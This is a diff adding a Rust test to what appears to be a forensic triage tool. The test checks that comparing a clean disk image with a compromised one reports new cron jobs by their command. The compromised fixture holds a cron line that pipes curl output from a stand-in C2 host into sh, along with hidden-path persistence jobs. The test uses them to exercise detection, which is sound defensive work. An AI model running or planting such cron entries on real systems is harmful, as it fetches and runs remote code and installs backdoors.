@@ -369,3 +369,126 @@ fn collections_in_a_case_folder_are_evidence() {
     assert_eq!(of("upd.exe"), Some(vec!["pc9-kape".to_string()]));
     assert_eq!(of("/tmp/.x/run"), Some(vec!["srv9".to_string()]));
 }
+
+/// A Linux root made by `mke2fs -d` from `files` (path below the root, content).
+fn ext4_root(dir: &Path, name: &str, files: &[(&str, &str)]) -> Option<PathBuf> {
+    let tree = dir.join(format!("tree-{name}"));
+    let _ = std::fs::remove_dir_all(&tree);
+    for (p, text) in files {
+        let f = tree.join(p);
+        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
+        std::fs::write(f, text).unwrap();
+    }
+    let img = dir.join(format!("{name}.img"));
+    let _ = std::fs::remove_file(&img);
+    let args = [
+        "-q",
+        "-F",
+        "-t",
+        "ext4",
+        "-d",
+        tree.to_str()?,
+        img.to_str()?,
+        "16M",
+    ];
+    if !run_quiet("mke2fs", &args) {
+        skip("mke2fs (e2fsprogs) not installed: the cron diff is not run");
+        return None;
+    }
+    Some(img)
+}
+
+/// Jobs added to crontabs that exist on the baseline are `new`, each of them (the
+/// download-and-execute line too), and a job that did not change is not `changed` because a
+/// line was added above it: a cron job is matched by its file, user, schedule and command,
+/// never by its line number.
+#[test]
+fn diff_matches_cron_jobs_by_what_they_run_not_their_line() {
+    let dir = scratch().join("case-diff-cron");
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    let system = "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n";
+    let alice = "0 3 * * * /usr/bin/backup\n";
+    let base_files = [
+        ("etc/hostname", "clean\n"),
+        ("etc/crontab", system),
+        ("var/spool/cron/crontabs/alice", alice),
+    ];
+    let system2 = format!("{system}*/10 * * * * root /usr/local/bin/.sync\n");
+    let alice2 = format!(
+        "*/5 * * * * curl -fsS http://c2.example.invalid/x | sh\n@reboot /tmp/.y/run\n{alice}"
+    );
+    let target_files = [
+        ("etc/hostname", "victim\n"),
+        ("etc/crontab", system2.as_str()),
+        ("var/spool/cron/crontabs/alice", alice2.as_str()),
+    ];
+    let (Some(clean), Some(victim)) = (
+        ext4_root(&dir, "clean", &base_files),
+        ext4_root(&dir, "victim", &target_files),
+    ) else {
+        return;
+    };
+    let (base, target) = (dir.join("base"), dir.join("target"));
+    let opts = foothold_case::CaseOptions::default();
+    foothold_case::scan_case(&[clean], &base, &opts).unwrap();
+    foothold_case::scan_case(&[victim], &target, &opts).unwrap();
+    let mut d: Vec<(String, String, String, String)> = foothold_case::diff(&base, &target)
+        .unwrap()
+        .into_iter()
+        .map(|r| (r.change, r.name, r.schedule, r.command))
+        .collect();
+    d.sort();
+    let row = |c: &str, n: &str, s: &str, cmd: &str| {
+        (c.to_string(), n.to_string(), s.to_string(), cmd.to_string())
+    };
+    assert_eq!(
+        d,
+        [
+            row(
+                "new",
+                "/etc/crontab",
+                "*/10 * * * *",
+                "/usr/local/bin/.sync"
+            ),
+            row(
+                "new",
+                "/var/spool/cron/crontabs/alice",
+                "*/5 * * * *",
+                "curl -fss http://c2.example.invalid/x | sh"
+            ),
+            row(
+                "new",
+                "/var/spool/cron/crontabs/alice",
+                "@reboot",
+                "/tmp/.y/run"
+            ),
+        ]
+    );
+    // The baseline against itself: nothing.
+    assert_eq!(foothold_case::diff(&base, &base).unwrap(), vec![]);
+    // A folder that is no case, and a path that is not there, are errors naming them.
+    for bad in [dir.clone(), dir.join("no-such-case")] {
+        let e = foothold_case::diff(&bad, &target).unwrap_err().to_string();
+        assert!(
+            e.contains(&bad.display().to_string()) && e.contains("not a case"),
+            "{e}"
+        );
+        let e = foothold_case::hunt(&bad, &["x".into()])
+            .unwrap_err()
+            .to_string();
+        assert!(e.contains("not a case"), "{e}");
+        assert!(foothold_case::iocs(&bad).is_err());
+        assert!(foothold_case::stack(&bad, foothold_case::StackBy::Command).is_err());
+    }
+    // `case scan` of a folder without evidence says so.
+    let empty = dir.join("empty");
+    std::fs::create_dir_all(&empty).unwrap();
+    let e = foothold_case::scan_case(std::slice::from_ref(&empty), &dir.join("out-empty"), &opts)
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("no evidence") && e.contains(&empty.display().to_string()),
+        "{e}"
+    );
+}
